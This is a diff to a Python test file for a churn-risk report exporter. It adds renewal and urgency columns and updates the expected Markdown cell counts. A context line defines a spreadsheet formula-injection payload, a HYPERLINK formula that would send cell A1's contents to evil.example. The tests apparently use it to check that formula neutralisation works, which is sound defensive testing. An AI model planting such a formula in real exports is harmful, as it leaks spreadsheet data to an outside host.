@@ -16,9 +16,9 @@ from markdown_it import MarkdownIt
 from serving.report.exports import at_risk_csv, at_risk_markdown, neutralise_formula
 from serving.report.tables import AT_RISK_COLUMNS
 
-TEXT = ["account_id", "account", "segment", "csm_owner", "risk_tier", "top_reasons", "recommended_action",
-        "owner_role"]
-NUMBERS = ["mrr", "churn_probability", "probability_change", "expected_mrr_loss"]
+TEXT = ["account_id", "account", "segment", "csm_owner", "risk_tier", "renewal", "top_reasons",
+        "recommended_action", "owner_role", "urgency", "due_by"]
+NUMBERS = ["mrr", "churn_probability", "probability_change", "expected_mrr_loss", "days_to_renewal"]
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 # text in a cell → (the CSV cell read back, the Markdown cell as written)
 SHAPES = {
@@ -110,9 +110,10 @@ def test_each_text_cell_of_the_markdown_is_written_exactly(value):
     lines = at_risk_markdown(at_risk([value], [1.0]), AS_OF).splitlines()
     assert len(lines) == 5  # title, blank, header, rule, one row: no value breaks a line
     cells = markdown_cells(lines[4])
-    assert len(cells) == 12
+    assert len(cells) == 14
     text = dict(zip(["account", "segment", "csm_owner"], cells[1:4], strict=True)) | dict(
-        zip(["risk_tier", "top_reasons", "recommended_action", "owner_role"], cells[8:12], strict=True))
+        zip(["risk_tier", "renewal", "top_reasons", "recommended_action", "owner_role", "due_by"], cells[8:14],
+            strict=True))
     assert text == dict.fromkeys(text, SHAPES[value][1])
 
 
@@ -159,7 +160,7 @@ def test_rendered_markdown_shows_each_value_as_text_in_its_own_cell():
     assert page.tags == {"h1", "table", "thead", "tbody", "tr", "th", "td"}
     assert page.attributes == []
     rows = page.rows[1:]
-    assert len(rows) == len(values) and {len(row) for row in rows} == {12}
+    assert len(rows) == len(values) and {len(row) for row in rows} == {14}
     for value, row in zip(values, rows, strict=True):
         expected = "–" if value is None else neutralise_formula(value)
         expected = " ".join(expected.replace("\r", "\n").split("\n")).strip(" \t")
